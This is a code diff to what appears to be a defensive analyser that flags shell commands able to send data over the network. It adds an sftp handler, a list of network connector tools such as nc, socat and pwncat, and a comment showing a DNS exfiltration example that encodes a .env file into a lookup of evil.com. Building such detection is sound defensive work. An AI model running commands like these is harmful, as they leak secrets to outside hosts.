@@ -303,6 +303,15 @@ def ssh_session(inv: Invocation) -> list[Effect]:
     return [send(host_of(operands[0]), f"ssh feeds its input to a shell on {operands[0]}", inv)]
 
 
+def sftp(inv: Invocation) -> list[Effect]:
+    """sftp copies like scp with two operands; with one (a host) it runs the commands it reads (`put .env`)."""
+    return remote_copy(inv) or ssh_session(inv)
+
+
+# Programs that connect to a peer and pass their stdin/stdout through: a shell piped to one is remote-controlled.
+CONNECTORS = frozenset(["nc", "ncat", "netcat", "telnet", "socat", "openssl", "cryptcat", "pwncat"])
+
+
 # Tools that name a host to look up or reach: no data sent, but a lookup of `$(cat .env | base64).evil.com`
 # is a channel (flows.py counts them when the secret is read inside the same command).
 PROBES = frozenset(["dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "whois", "curl", "wget"])
@@ -319,10 +328,10 @@ def contact(inv: Invocation) -> list[Effect]:
 
 
 HANDLERS = {"curl": curl, "wget": wget, "http": httpie, "https": httpie, "xh": httpie, "xhs": httpie,
-            "scp": remote_copy, "sftp": remote_copy, "rsync": remote_copy, "nc": netcat, "ncat": netcat,
+            "scp": remote_copy, "rsync": remote_copy, "nc": netcat, "ncat": netcat,
             "netcat": netcat, "socat": socat, "mail": mailer, "mailx": mailer, "sendmail": mailer, "mutt": mailer,
             "telnet": connector, "openssl": connector, "ftp": connector, "lftp": connector, "tftp": connector,
-            "smbclient": connector, "ssh": ssh_session}  # fmt: skip
+            "smbclient": connector, "ssh": ssh_session, "sftp": sftp}  # fmt: skip
 NETWORKED = frozenset([*HANDLERS, *PROBES])
 # Options whose value is shell code the command runs here: rsync's remote shell, ssh's proxy and local commands.
 RSH_OPTIONS = frozenset(["-e", "--rsh"])
